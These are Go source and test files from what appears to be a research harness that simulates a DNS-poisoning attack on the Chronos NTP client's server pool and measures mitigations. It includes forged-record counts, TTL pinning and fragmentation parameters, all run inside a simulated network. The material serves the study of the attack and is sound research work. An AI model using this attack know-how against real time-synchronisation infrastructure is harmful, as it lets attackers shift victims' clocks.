	all := make([]simnet.IP, len(c.pool))
	for i, e := range c.pool {
		all[i] = e.IP
	}
	c.querySample(all, func(offsets []time.Duration) {
		if c.stopped {
			return
		}
		avg, ok := c.rule.PanicUpdate(offsets)
		if !ok {
			c.stats.IncompleteRound++
			c.scheduleRound(c.cfg.SyncInterval)
			return
		}
		now := c.host.Net().Now()
		c.clk.Step(now, avg)
		c.stats.PanicUpdates++
		c.scheduleRound(c.cfg.SyncInterval)
	})
}

// trimmed sorts xs in place and returns the subslice with trim elements
// removed from each end. Sorting the caller's slice (rather than a copy)
// keeps the per-attempt rule evaluation allocation-free; every caller
// hands in a scratch buffer it refills before the next attempt.
func trimmed(xs []time.Duration, trim int) []time.Duration {
	slices.Sort(xs)
	if trim < 0 || len(xs) <= 2*trim {
		return xs
	}
	return xs[trim : len(xs)-trim]
}

func mean(xs []time.Duration) time.Duration {
	if len(xs) == 0 {
		return 0
	}
	var sum time.Duration
	for _, x := range xs {
		sum += x
	}
	return sum / time.Duration(len(xs))
}

func absDur(d time.Duration) time.Duration {
	if d < 0 {
		return -d
	}
	return d
}

// String implements fmt.Stringer.
func (c *Client) String() string {
	return fmt.Sprintf("chronos{pool=%d updates=%d panics=%d}", len(c.pool), c.stats.Updates, c.stats.Panics)
}
