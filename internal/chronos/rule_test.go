package chronos

import (
	"testing"
	"time"

	"chronosntp/internal/clock"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/simnet"
)

func ms(n int) time.Duration { return time.Duration(n) * time.Millisecond }

// TestRoundPanicsAfterExactlyKResamples encodes the NDSS'18 escalation
// spec: the client re-samples up to K (= Retries) times, so panic mode
// triggers on the (K+1)-th consecutive failed attempt — never earlier.
func TestRoundPanicsAfterExactlyKResamples(t *testing.T) {
	for _, k := range []int{0, 1, 2, 5} {
		r := NewRound(k)
		fail := Verdict{Reason: FailC2}
		for attempt := 0; attempt < k; attempt++ {
			if got := r.Submit(fail); got != Resample {
				t.Fatalf("K=%d: failed attempt %d escalated to %v, want resample", k, attempt, got)
			}
		}
		if got := r.Submit(fail); got != Panic {
			t.Fatalf("K=%d: failure %d gave %v, want panic", k, k+1, got)
		}
		if r.Failures() != k+1 {
			t.Fatalf("K=%d: recorded %d failures, want %d", k, r.Failures(), k+1)
		}
	}
}

// TestRoundSuccessBeforePanic: a success on any attempt applies the
// update; the escalation never reaches panic when an attempt succeeds.
func TestRoundSuccessBeforePanic(t *testing.T) {
	r := NewRound(2)
	if got := r.Submit(Verdict{Reason: FailC1}); got != Resample {
		t.Fatalf("first failure: %v", got)
	}
	if got := r.Submit(Verdict{Reason: FailC2}); got != Resample {
		t.Fatalf("second failure: %v", got)
	}
	if got := r.Submit(Verdict{OK: true, Update: ms(3)}); got != Apply {
		t.Fatalf("success after failures gave %v, want apply", got)
	}
}

// TestPanicTrimOddPoolSizes: panic mode trims ⌊n/3⌋ from each end, so odd
// pool sizes keep a strict middle-third majority.
func TestPanicTrimOddPoolSizes(t *testing.T) {
	rule := NewRule(Config{})
	cases := []struct {
		offsets []time.Duration
		want    time.Duration
	}{
		// n=3: trim 1 each side, the median survives.
		{[]time.Duration{ms(-100), ms(7), ms(100)}, ms(7)},
		// n=5: trim 1 each side, middle three average.
		{[]time.Duration{ms(-50), ms(1), ms(2), ms(3), ms(50)}, ms(2)},
		// n=7: trim 2 each side, middle three average.
		{[]time.Duration{ms(-90), ms(-80), ms(4), ms(5), ms(6), ms(80), ms(90)}, ms(5)},
		// n=9: trim 3 each side.
		{[]time.Duration{ms(-9), ms(-8), ms(-7), ms(10), ms(11), ms(12), ms(70), ms(80), ms(90)}, ms(11)},
	}
	for _, tc := range cases {
		got, ok := rule.PanicUpdate(tc.offsets)
		if !ok {
			t.Fatalf("PanicUpdate(%v) not ok", tc.offsets)
		}
		if got != tc.want {
			t.Fatalf("PanicUpdate(n=%d) = %v, want %v", len(tc.offsets), got, tc.want)
		}
		if trim := PanicTrim(len(tc.offsets)); len(tc.offsets)-2*trim < 1 {
			t.Fatalf("n=%d: trim %d leaves no survivors", len(tc.offsets), trim)
		}
	}
	// Unsorted input must behave identically: the rule sorts internally.
	if got, _ := rule.PanicUpdate([]time.Duration{ms(100), ms(7), ms(-100)}); got != ms(7) {
		t.Fatalf("PanicUpdate on unsorted input = %v, want 7ms", got)
	}
	// Fewer than 3 replies: nothing survives the third-trimming.
	if _, ok := rule.PanicUpdate([]time.Duration{ms(1), ms(2)}); ok {
		t.Fatal("PanicUpdate accepted a 2-reply sweep")
	}
}

// TestEvaluateBoundaryCases pins the inclusive boundaries of C1 and C2:
// survivors exactly 2ω apart pass C1, an average exactly at ErrBound
// passes C2, and one nanosecond beyond either bound fails.
func TestEvaluateBoundaryCases(t *testing.T) {
	// m=9, d=3 → three survivors keep the boundary arithmetic transparent.
	rule := NewRule(Config{SampleSize: 9, MinReplies: 6, Omega: ms(25), ErrBound: ms(30)})
	if rule.Config().Trim != 3 {
		t.Fatalf("defaults: trim = %d, want m/3 = 3", rule.Config().Trim)
	}
	pad := func(low, mid, high time.Duration) []time.Duration {
		// Three extreme values on each side are trimmed away; the middle
		// three are the survivors under test.
		return []time.Duration{
			-time.Second, -time.Second, -time.Second,
			low, mid, high,
			time.Second, time.Second, time.Second,
		}
	}

	// Survivors exactly 2ω apart, average 0: accepted.
	v := rule.Evaluate(pad(ms(-25), 0, ms(25)))
	if !v.OK || v.Span != ms(50) || v.Update != 0 {
		t.Fatalf("span=2ω rejected: %+v", v)
	}
	// One nanosecond over 2ω: C1 fails.
	v = rule.Evaluate(pad(ms(-25), 0, ms(25)+time.Nanosecond))
	if v.OK || v.Reason != FailC1 {
		t.Fatalf("span=2ω+1ns accepted: %+v", v)
	}
	// Average exactly at ErrBound: accepted (positive and negative side).
	v = rule.Evaluate(pad(ms(30), ms(30), ms(30)))
	if !v.OK || v.Update != ms(30) {
		t.Fatalf("avg=+ErrBound rejected: %+v", v)
	}
	v = rule.Evaluate(pad(ms(-30), ms(-30), ms(-30)))
	if !v.OK || v.Update != ms(-30) {
		t.Fatalf("avg=-ErrBound rejected: %+v", v)
	}
	// One nanosecond beyond ErrBound: C2 fails.
	v = rule.Evaluate(pad(ms(30)+time.Nanosecond, ms(30)+time.Nanosecond, ms(30)+time.Nanosecond))
	if v.OK || v.Reason != FailC2 {
		t.Fatalf("avg=ErrBound+1ns accepted: %+v", v)
	}
	// Reply floor: one short of MinReplies is insufficient.
	v = rule.Evaluate([]time.Duration{0, 0, 0, 0, 0})
	if v.OK || v.Reason != FailInsufficient {
		t.Fatalf("5 replies under MinReplies=6 accepted: %+v", v)
	}
}

// TestClientPanicEscalationOnWire drives the full packet client against a
// pool whose every server lies by a constant 10 s: each attempt passes C1
// (zero spread) but fails C2, so every round must consume exactly K
// re-samples and then panic — and the panic's third-trimmed average hands
// the clock to the liars, reproducing the paper's "panic mode offers no
// protection against a pool supermajority" observation.
func TestClientPanicEscalationOnWire(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 604})
	lie := 10 * time.Second
	_, ips, err := ntpserver.MaliciousFarm(n, simnet.IPv4(66, 0, 0, 1), 30, ntpserver.ConstantShift(lie))
	if err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(simnet.IPv4(10, 0, 0, 9))
	cli := New(ch, &clock.Clock{}, nil, Config{SyncInterval: 16 * time.Second})
	if err := cli.SeedPool(ips); err != nil {
		t.Fatal(err)
	}
	n.RunFor(10 * time.Minute)

	st := cli.Stats()
	if st.Panics == 0 {
		t.Fatal("no panic despite every attempt failing C2")
	}
	if st.Resamples != st.Panics*uint64(cli.Config().Retries) {
		t.Fatalf("resamples = %d with %d panics and K=%d: escalation fired early or late",
			st.Resamples, st.Panics, cli.Config().Retries)
	}
	if st.PanicUpdates == 0 {
		t.Fatal("panic mode never applied the supermajority average")
	}
	// The very first panic steps the clock by ~10 s; after that the
	// shifted clock agrees with the liars and normal rounds resume.
	if off := cli.Offset(); off < lie-100*time.Millisecond {
		t.Fatalf("offset = %v, want ≈ %v after panic capitulation", off, lie)
	}
}
