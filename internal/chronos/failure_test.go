package chronos

import (
	"math/rand"
	"testing"
	"time"

	"chronosntp/internal/clock"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/simnet"
)

// TestSyncUnderPacketLoss: with 25% loss on the NTP legs the client loses
// some samples per round (counted as incomplete when below the reply
// floor) but still converges.
func TestSyncUnderPacketLoss(t *testing.T) {
	n := simnet.New(simnet.Config{
		Seed: 501,
		Loss: func(src, dst simnet.IP, rng *rand.Rand) bool {
			return rng.Float64() < 0.25
		},
	})
	_, ips, err := ntpserver.Farm(n, simnet.IPv4(203, 0, 0, 1), 96, 2*time.Millisecond, 0.2)
	if err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(clientIP)
	cli := New(ch, clock.New(n.Now(), 25*time.Millisecond, 0), nil, Config{SyncInterval: 16 * time.Second})
	if err := cli.SeedPool(ips); err != nil {
		t.Fatal(err)
	}
	n.RunFor(time.Hour)
	if cli.Stats().Updates == 0 {
		t.Fatal("no updates under 25% loss")
	}
	off := cli.Offset()
	if off < -15*time.Millisecond || off > 15*time.Millisecond {
		t.Errorf("offset = %v, want converged despite loss", off)
	}
}

// TestAllServersUnreachable: every round is incomplete; the clock is never
// touched, and the client keeps trying instead of wedging.
func TestAllServersUnreachable(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 502})
	// Pool of addresses with no hosts behind them.
	ips := make([]simnet.IP, 50)
	for i := range ips {
		ips[i] = simnet.IPv4(203, 9, 9, byte(i+1))
	}
	ch, _ := n.AddHost(clientIP)
	cli := New(ch, clock.New(n.Now(), 40*time.Millisecond, 0), nil, Config{SyncInterval: 16 * time.Second})
	if err := cli.SeedPool(ips); err != nil {
		t.Fatal(err)
	}
	n.RunFor(10 * time.Minute)
	st := cli.Stats()
	if st.IncompleteRound == 0 {
		t.Error("no incomplete rounds recorded")
	}
	if st.Updates != 0 || st.PanicUpdates != 0 {
		t.Error("clock updated with zero reachable servers")
	}
	if off := cli.Offset(); off != 40*time.Millisecond {
		t.Errorf("offset = %v, want untouched 40ms", off)
	}
	if st.Rounds < 5 {
		t.Errorf("rounds = %d, client appears wedged", st.Rounds)
	}
}

// TestPartialReachabilityStillUpdates: exactly the reply floor (2m/3) of
// the sample reachable — rounds proceed.
func TestPartialReachabilityStillUpdates(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 503})
	_, live, err := ntpserver.Farm(n, simnet.IPv4(203, 0, 0, 1), 80, time.Millisecond, 0.2)
	if err != nil {
		t.Fatal(err)
	}
	dead := make([]simnet.IP, 16) // 1/6 of the pool dark
	for i := range dead {
		dead[i] = simnet.IPv4(203, 9, 9, byte(i+1))
	}
	ch, _ := n.AddHost(clientIP)
	cli := New(ch, &clock.Clock{}, nil, Config{SyncInterval: 16 * time.Second})
	if err := cli.SeedPool(append(live, dead...)); err != nil {
		t.Fatal(err)
	}
	n.RunFor(30 * time.Minute)
	if cli.Stats().Updates == 0 {
		t.Error("no updates with 5/6 of the pool reachable")
	}
	if off := cli.Offset(); off < -10*time.Millisecond || off > 10*time.Millisecond {
		t.Errorf("offset = %v", off)
	}
}
