package eval

import (
	"context"
	"time"

	"chronosntp/internal/analysis"
	"chronosntp/internal/core"
	"chronosntp/internal/runner"
)

// Ablations (E8) probes the design choices the attack depends on, each
// toggled independently:
//
//   - the forged TTL (cache pinning): without a TTL past the generation
//     horizon, benign servers keep accumulating after the poisoning;
//   - Chronos' sample size m (with d = m/3): the capture probability at
//     the poisoned pool is insensitive to m once the attacker holds ≥ 2/3;
//   - the poisoned-query index: fractions across the whole window.
//
// The scenario-backed TTL rows are Monte-Carlo runs over `trials` seeds;
// the remaining rows are closed-form.
func Ablations(seed int64, trials, parallel int) (*Result, error) {
	if trials < 1 {
		trials = 1
	}
	p := &AblationsPayload{}

	// Forged-TTL pinning.
	ttls := []time.Duration{7 * 24 * time.Hour, 150 * time.Second}
	var gridTrials []runner.Trial
	for _, ttl := range ttls {
		for k := 0; k < trials; k++ {
			gridTrials = append(gridTrials, runner.Trial{
				Index: len(gridTrials),
				Point: ttl.String(),
				Config: core.Config{
					Seed: seed + int64(k), Mechanism: core.Defrag, PoisonQuery: 6, ForgedTTL: ttl,
				},
			})
		}
	}
	results, err := runner.Run(context.Background(), gridTrials, runner.Options{Parallel: parallel})
	if err != nil {
		return nil, err
	}
	groups := runner.ByPoint(gridTrials, results)
	for _, ttl := range ttls {
		var benign, malicious, fraction []float64
		for _, r := range groups[ttl.String()] {
			benign = append(benign, float64(r.PoolBenign))
			malicious = append(malicious, float64(r.PoolMalicious))
			fraction = append(fraction, r.AttackerFraction)
		}
		p.TTL = append(p.TTL, TTLAblation{
			TTL:    ttl,
			Benign: describe(benign), Malicious: describe(malicious), Fraction: describe(fraction),
		})
	}

	// Sample-size sensitivity at the poisoned pool.
	for _, m := range []int{9, 15, 27} {
		p.SampleSizes = append(p.SampleSizes, SampleSizeAblation{
			SampleSize:  m,
			Trim:        m / 3,
			CaptureProb: Float(analysis.RoundWinProb(133, 89, m, m/3)),
		})
	}

	// Capture probability across attacker fractions for fixed m.
	for _, mal := range []int{30, 60, 89, 120} {
		pool := 44 + mal
		p.Injections = append(p.Injections, InjectionAblation{
			Malicious: mal, Pool: pool,
			Fraction:    Float(float64(mal) / float64(pool)),
			CaptureProb: Float(analysis.RoundWinProb(pool, mal, 15, 5)),
		})
	}

	return &Result{Meta: newMeta("E8", seed, trials), Payload: p}, nil
}
