package eval

import (
	"encoding/json"
	"fmt"
	"math"
	"runtime/debug"
	"strconv"
)

// ResultSchema versions the JSON envelope. Bump on incompatible payload
// changes so stored trajectories can be told apart.
const ResultSchema = "chronosntp/eval/v1"

// Meta is the provenance block of a Result: which experiment produced it
// and under which replication parameters. It is what a stored result needs
// to be reproduced (`attacksim -experiment <ID> -seed <Seed> -trials
// <Trials>`), and what table titles and Monte-Carlo notes are rendered
// from.
type Meta struct {
	ID     string `json:"id"`                // E1..E10
	Seed   int64  `json:"seed,omitempty"`    // first seed of the replica block (0 for closed-form experiments)
	Trials int    `json:"trials,omitempty"`  // Monte-Carlo replicas per grid point (0 for closed-form experiments)
	GitRev string `json:"git_rev,omitempty"` // vcs revision of the binary, when the build info carries one
}

// Payload is the typed, experiment-specific half of a Result: the grid
// axes and the per-cell aggregates, with no formatting applied. The text
// table is *derived* from it by Table, so rendered output can never hold
// information the serialized form lost.
type Payload interface {
	// Kind is the stable JSON discriminator ("figure1", "shift-study", …).
	Kind() string
	// Table renders the payload as the experiment's text table.
	Table(m Meta) *Table
}

// Result is one experiment's typed outcome: provenance plus payload. All
// text tables the harness prints are rendered from a Result, and the same
// struct round-trips through JSON (MarshalJSON / UnmarshalJSON) for the
// results pipeline.
type Result struct {
	Meta    Meta
	Payload Payload
}

// Table renders the result's table.
func (r *Result) Table() *Table { return r.Payload.Table(r.Meta) }

// Render renders the result's table as aligned text.
func (r *Result) Render() string { return r.Table().Render() }

// resultJSON is the stored envelope.
type resultJSON struct {
	Schema  string          `json:"schema"`
	Meta    Meta            `json:"meta"`
	Kind    string          `json:"kind"`
	Payload json.RawMessage `json:"payload"`
}

// MarshalJSON stores the result under the versioned envelope with the
// payload's kind as discriminator.
func (r *Result) MarshalJSON() ([]byte, error) {
	if r.Payload == nil {
		return nil, fmt.Errorf("eval: result %s has no payload", r.Meta.ID)
	}
	raw, err := json.Marshal(r.Payload)
	if err != nil {
		return nil, err
	}
	return json.Marshal(resultJSON{
		Schema:  ResultSchema,
		Meta:    r.Meta,
		Kind:    r.Payload.Kind(),
		Payload: raw,
	})
}

// UnmarshalJSON restores a result, reconstructing the concrete payload
// type from the kind discriminator.
func (r *Result) UnmarshalJSON(b []byte) error {
	var env resultJSON
	if err := json.Unmarshal(b, &env); err != nil {
		return err
	}
	if env.Schema != ResultSchema {
		return fmt.Errorf("eval: unsupported result schema %q (want %q)", env.Schema, ResultSchema)
	}
	factory, ok := payloadKinds[env.Kind]
	if !ok {
		return fmt.Errorf("eval: unknown payload kind %q", env.Kind)
	}
	payload := factory()
	if err := json.Unmarshal(env.Payload, payload); err != nil {
		return fmt.Errorf("eval: decoding %q payload: %w", env.Kind, err)
	}
	r.Meta = env.Meta
	r.Payload = payload
	return nil
}

// payloadKinds maps every kind discriminator to a factory for its zero
// payload. Unmarshal and the experiment catalog both draw from it.
var payloadKinds = map[string]func() Payload{
	(&Figure1Payload{}).Kind():       func() Payload { return &Figure1Payload{} },
	(&AttackWindowPayload{}).Kind():  func() Payload { return &AttackWindowPayload{} },
	(&CapacityPayload{}).Kind():      func() Payload { return &CapacityPayload{} },
	(&SecurityBoundPayload{}).Kind(): func() Payload { return &SecurityBoundPayload{} },
	(&FragStudyPayload{}).Kind():     func() Payload { return &FragStudyPayload{} },
	(&TimeShiftPayload{}).Kind():     func() Payload { return &TimeShiftPayload{} },
	(&MitigationsPayload{}).Kind():   func() Payload { return &MitigationsPayload{} },
	(&AblationsPayload{}).Kind():     func() Payload { return &AblationsPayload{} },
	(&FleetStudyPayload{}).Kind():    func() Payload { return &FleetStudyPayload{} },
	(&ShiftStudyPayload{}).Kind():    func() Payload { return &ShiftStudyPayload{} },
	(&AuthStudyPayload{}).Kind():     func() Payload { return &AuthStudyPayload{} },
}

// newMeta stamps an experiment's provenance block.
func newMeta(id string, seed int64, trials int) Meta {
	return Meta{ID: id, Seed: seed, Trials: trials, GitRev: buildRevision()}
}

// buildRevision is the vcs revision baked into the running binary, if any
// ("" under plain `go test` builds without VCS stamping).
func buildRevision() string {
	info, ok := debug.ReadBuildInfo()
	if !ok {
		return ""
	}
	for _, s := range info.Settings {
		if s.Key == "vcs.revision" {
			if len(s.Value) > 12 {
				return s.Value[:12]
			}
			return s.Value
		}
	}
	return ""
}

// Float is a float64 whose JSON form survives ±Inf and NaN (stored as the
// strings "+Inf", "-Inf", "NaN") — the E4 security bound legitimately
// reaches +Inf years for sub-threshold attackers, which encoding/json
// rejects on a bare float64.
type Float float64

// MarshalJSON implements json.Marshaler.
func (f Float) MarshalJSON() ([]byte, error) {
	v := float64(f)
	switch {
	case math.IsInf(v, 1):
		return []byte(`"+Inf"`), nil
	case math.IsInf(v, -1):
		return []byte(`"-Inf"`), nil
	case math.IsNaN(v):
		return []byte(`"NaN"`), nil
	}
	return json.Marshal(v)
}

// UnmarshalJSON implements json.Unmarshaler.
func (f *Float) UnmarshalJSON(b []byte) error {
	if len(b) > 0 && b[0] == '"' {
		var s string
		if err := json.Unmarshal(b, &s); err != nil {
			return err
		}
		v, err := strconv.ParseFloat(s, 64)
		if err != nil {
			return fmt.Errorf("eval: non-finite float %q: %w", s, err)
		}
		*f = Float(v)
		return nil
	}
	var v float64
	if err := json.Unmarshal(b, &v); err != nil {
		return err
	}
	*f = Float(v)
	return nil
}
