package eval

import (
	"fmt"
	"strings"
	"testing"
)

func TestTableRender(t *testing.T) {
	tbl := &Table{
		ID: "X", Title: "demo",
		Columns: []string{"a", "long-column"},
	}
	tbl.AddRow(1, "v")
	tbl.AddRow("wide-cell-value", 2.5)
	tbl.Notes = append(tbl.Notes, "a note")
	out := tbl.Render()
	for _, want := range []string{"== X: demo ==", "long-column", "wide-cell-value", "2.500", "note: a note"} {
		if !strings.Contains(out, want) {
			t.Errorf("render missing %q:\n%s", want, out)
		}
	}
}

func TestFigure1Experiment(t *testing.T) {
	res, err := Figure1(301, 1, 1)
	if err != nil {
		t.Fatal(err)
	}
	tbl := res.Table()
	if len(tbl.Rows) != 24 {
		t.Fatalf("rows = %d, want 24", len(tbl.Rows))
	}
	// Query 12 row carries the 89 malicious jump.
	if tbl.Rows[11][2] != "89" {
		t.Errorf("q12 malicious = %s, want 89", tbl.Rows[11][2])
	}
	// Pool frozen afterwards.
	if tbl.Rows[23][2] != "89" || tbl.Rows[23][1] != tbl.Rows[11][1] {
		t.Errorf("final row = %v, want frozen pool", tbl.Rows[23])
	}
}

func TestAttackWindowExperiment(t *testing.T) {
	res, err := AttackWindow(302, 1, 1)
	if err != nil {
		t.Fatal(err)
	}
	tbl := res.Table()
	if len(tbl.Rows) != 24 {
		t.Fatalf("rows = %d", len(tbl.Rows))
	}
	// The 2/3 column flips between query 12 and 13.
	if tbl.Rows[11][3] != "true" {
		t.Errorf("q12 ≥2/3 = %s, want true", tbl.Rows[11][3])
	}
	if tbl.Rows[12][3] != "false" {
		t.Errorf("q13 ≥2/3 = %s, want false", tbl.Rows[12][3])
	}
}

func TestMaxAddressesExperiment(t *testing.T) {
	res, err := MaxAddresses()
	if err != nil {
		t.Fatal(err)
	}
	tbl := res.Table()
	found89 := false
	for _, row := range tbl.Rows {
		if row[0] == "1472" && row[2] == "89" {
			found89 = true
		}
	}
	if !found89 {
		t.Errorf("table missing the 89-record row: %v", tbl.Rows)
	}
}

func TestChronosSecurityExperiment(t *testing.T) {
	res, err := ChronosSecurity()
	if err != nil {
		t.Fatal(err)
	}
	tbl := res.Table()
	if len(tbl.Rows) != 5 {
		t.Fatalf("rows = %d", len(tbl.Rows))
	}
	// The last row (poisoned pool) must show a finite, small effort.
	last := tbl.Rows[len(tbl.Rows)-1]
	if last[6] == "+Inf" {
		t.Errorf("poisoned-pool years = %s, want finite", last[6])
	}
}

func TestFragmentationStudyExperiment(t *testing.T) {
	res, err := FragmentationStudy(303, 1, 1)
	if err != nil {
		t.Fatal(err)
	}
	tbl := res.Table()
	want := map[string]string{
		"fragment at MTU 548":                        "16/30",
		"accept fragments of some size":              "90%",
		"accept 68-byte-MTU fragments":               "64%",
		"queries triggerable via SMTP/open resolver": "14%",
	}
	for _, row := range tbl.Rows {
		if exp, ok := want[row[1]]; ok {
			if row[3] != exp {
				t.Errorf("%s: measured %s, want %s (calibrated ground truth)", row[1], row[3], exp)
			}
			delete(want, row[1])
		}
	}
	if len(want) != 0 {
		t.Errorf("missing rows: %v", want)
	}
}

func TestMitigationsExperiment(t *testing.T) {
	res, err := Mitigations(304, 1, 1)
	if err != nil {
		t.Fatal(err)
	}
	tbl := res.Table()
	if len(tbl.Rows) != 5 {
		t.Fatalf("rows = %d", len(tbl.Rows))
	}
	// Vulnerable row: attacker fraction ≥ 2/3.
	if tbl.Rows[0][3] != "89" {
		t.Errorf("vulnerable malicious = %s", tbl.Rows[0][3])
	}
	// Mitigated rows: zero malicious.
	for _, i := range []int{1, 2, 3} {
		if tbl.Rows[i][3] != "0" {
			t.Errorf("row %d (%s) malicious = %s, want 0", i, tbl.Rows[i][0], tbl.Rows[i][3])
		}
	}
	// Persistent hijack defeats everything: fraction 1.0.
	if tbl.Rows[4][4] != "1.000" {
		t.Errorf("persistent hijack fraction = %s, want 1.000", tbl.Rows[4][4])
	}
}

func TestAblationsExperiment(t *testing.T) {
	res, err := Ablations(306, 1, 1)
	if err != nil {
		t.Fatal(err)
	}
	tbl := res.Table()
	if len(tbl.Rows) != 9 {
		t.Fatalf("rows = %d, want 9", len(tbl.Rows))
	}
	// TTL pinning: the 7-day row must show a strictly higher attacker
	// fraction than the 150s row.
	if tbl.Rows[0][1] != "168h0m0s" || tbl.Rows[1][1] != "2m30s" {
		t.Fatalf("unexpected TTL rows: %v / %v", tbl.Rows[0], tbl.Rows[1])
	}
	frac := func(s string) float64 {
		i := strings.LastIndex(s, " ")
		var f float64
		if _, err := fmt.Sscanf(s[i+1:], "%f", &f); err != nil {
			t.Fatalf("cannot parse fraction from %q: %v", s, err)
		}
		return f
	}
	if frac(tbl.Rows[0][2]) <= frac(tbl.Rows[1][2]) {
		t.Errorf("TTL pinning showed no effect: %q vs %q", tbl.Rows[0][2], tbl.Rows[1][2])
	}
}

func TestTimeShiftExperiment(t *testing.T) {
	if testing.Short() {
		t.Skip("multi-hour simulated sync phases")
	}
	res, err := TimeShift(305, 1, 1)
	if err != nil {
		t.Fatal(err)
	}
	tbl := res.Table()
	if len(tbl.Rows) != 3 {
		t.Fatalf("rows = %d", len(tbl.Rows))
	}
}

// TestFigure1MonteCarlo exercises the multi-trial path: CIs appear in the
// cells, and the aggregate is identical at -parallel 1 and -parallel 8.
func TestFigure1MonteCarlo(t *testing.T) {
	serial, err := Figure1(400, 4, 1)
	if err != nil {
		t.Fatal(err)
	}
	parallel, err := Figure1(400, 4, 8)
	if err != nil {
		t.Fatal(err)
	}
	if serial.Render() != parallel.Render() {
		t.Errorf("parallel-1 and parallel-8 tables differ:\n%s\n---\n%s", serial.Render(), parallel.Render())
	}
	st := serial.Table()
	// Multi-trial cells carry the ± CI marker.
	if !strings.Contains(st.Rows[11][3], "±") {
		t.Errorf("q12 fraction %q missing ± CI", st.Rows[11][3])
	}
	found := false
	for _, n := range st.Notes {
		if strings.Contains(n, "monte-carlo: 4 trials") {
			found = true
		}
	}
	if !found {
		t.Errorf("missing monte-carlo note: %v", st.Notes)
	}
}

// TestMitigationsMonteCarlo keeps the §V verdicts stable across seeds: the
// mitigated rows stay at zero malicious servers for every replica.
func TestMitigationsMonteCarlo(t *testing.T) {
	res, err := Mitigations(410, 3, 4)
	if err != nil {
		t.Fatal(err)
	}
	tbl := res.Table()
	for _, i := range []int{1, 2, 3} {
		if tbl.Rows[i][3] != "0.0 ± 0.0" {
			t.Errorf("row %d (%s) malicious = %s, want 0.0 ± 0.0", i, tbl.Rows[i][0], tbl.Rows[i][3])
		}
	}
	if tbl.Rows[4][4] != "1.000 ± 0.000" {
		t.Errorf("persistent hijack fraction = %s", tbl.Rows[4][4])
	}
}
