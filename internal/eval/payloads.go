package eval

import (
	"fmt"
	"math"
	"time"

	"chronosntp/internal/analysis"
	"chronosntp/internal/shiftsim"
	"chronosntp/internal/stats"
)

// This file defines the typed payload of every experiment (E1–E10) and
// the renderer deriving its text table. The payloads hold grid axes and
// per-cell aggregates (stats.Summary), never formatted strings: the
// renderers below are the only place numbers become text, so the JSON
// form always carries at least as much information as the table.

// PoolAggregate is a pool composition aggregated across trials.
type PoolAggregate struct {
	Benign    stats.Summary `json:"benign"`
	Malicious stats.Summary `json:"malicious"`
	Fraction  stats.Summary `json:"fraction"`
}

// QueryAggregate is one point of the Figure-1 series: the pool composition
// after a pool-generation query, aggregated across trials.
type QueryAggregate struct {
	Query     int           `json:"query"`
	Benign    stats.Summary `json:"benign"`
	Malicious stats.Summary `json:"malicious"`
	Fraction  stats.Summary `json:"fraction"`
}

// Figure1Payload is E1: the pool composition across the 24 hourly
// pool-generation queries with the poisoning landing at PoisonQuery.
type Figure1Payload struct {
	Mechanism   string           `json:"mechanism"`
	PoisonQuery int              `json:"poison_query"`
	Queries     []QueryAggregate `json:"queries"`
	Final       PoolAggregate    `json:"final"`
	Planted     stats.Summary    `json:"planted"`
}

// Kind implements Payload.
func (*Figure1Payload) Kind() string { return "figure1" }

// Table implements Payload.
func (p *Figure1Payload) Table(m Meta) *Table {
	t := &Table{
		ID:      m.ID,
		Title:   "Figure 1 — DNS poisoning attack on Chronos pool generation (poison at query 12)",
		Columns: []string{"query", "benign", "malicious", "attacker-fraction"},
	}
	for _, q := range p.Queries {
		t.AddRow(q.Query, fmtCount(q.Benign), fmtCount(q.Malicious), fmtFrac(q.Fraction))
	}
	ideal := analysis.ComposePool(12, 24, 4, 89)
	t.Notes = append(t.Notes,
		fmt.Sprintf("paper: up to 4·11 = 44 benign + 89 malicious (fraction %.3f ≥ 2/3)", ideal.Fraction),
		fmt.Sprintf("measured: %s benign + %s malicious (fraction %s); benign < 44 only through pool-rotation repeats",
			fmtCount(p.Final.Benign), fmtCount(p.Final.Malicious), fmtFrac(p.Final.Fraction)),
		fmt.Sprintf("poisoning mechanism: %s, planted = %d/%d",
			p.Mechanism, int(p.Planted.Mean*float64(p.Planted.N)+0.5), p.Planted.N),
	)
	mcNote(t, m.Trials)
	return t
}

// SimulatedFraction is one simulated spot check of the attack window: the
// attacker's final pool fraction with the poisoning landing at Query.
type SimulatedFraction struct {
	Query    int           `json:"query"`
	Fraction stats.Summary `json:"fraction"`
}

// AttackWindowPayload is E2: the analytical attacker-fraction sweep over
// the poisoned query index, plus simulated spot checks.
type AttackWindowPayload struct {
	Window      int                 `json:"window"`       // pool-generation queries (24)
	PerResponse int                 `json:"per_response"` // benign addresses per clean response (4)
	Injected    int                 `json:"injected"`     // forged addresses per poisoning (89)
	Simulated   []SimulatedFraction `json:"simulated"`
}

// Kind implements Payload.
func (*AttackWindowPayload) Kind() string { return "attack-window" }

// Table implements Payload.
func (p *AttackWindowPayload) Table(m Meta) *Table {
	t := &Table{
		ID:      m.ID,
		Title:   "Attack window — attacker pool fraction vs poisoned query index",
		Columns: []string{"poison-query", "ideal-benign", "ideal-fraction", ">=2/3", "simulated-fraction"},
	}
	simulated := make(map[int]stats.Summary, len(p.Simulated))
	for _, s := range p.Simulated {
		simulated[s.Query] = s.Fraction
	}
	for q := 1; q <= p.Window; q++ {
		c := analysis.ComposePool(q, p.Window, p.PerResponse, p.Injected)
		sim := "-"
		if s, ok := simulated[q]; ok {
			sim = fmtFrac(s)
		}
		t.AddRow(q, c.Benign, c.Fraction, c.Fraction >= 2.0/3.0, sim)
	}
	crossover := analysis.MaxPoisonQuery(p.Window, p.PerResponse, p.Injected, 2.0/3.0)
	adv := analysis.CompareOpportunities(0.1, crossover)
	t.Notes = append(t.Notes,
		fmt.Sprintf("paper: success 'until or during the 12th DNS request' keeps ≥ 2/3; computed crossover = query %d",
			crossover),
		fmt.Sprintf("'even easier than plain NTP': at 10%% per-attempt poisoning success, classic client P=%.2f vs Chronos P=%.2f (%.1f× the opportunities)",
			adv.Classic, adv.Chronos, adv.Advantage),
	)
	mcNote(t, m.Trials)
	return t
}

// CapacityRow is one forged-response capacity measurement.
type CapacityRow struct {
	Payload int  `json:"payload"`
	EDNS    bool `json:"edns"`
	Records int  `json:"records"`
}

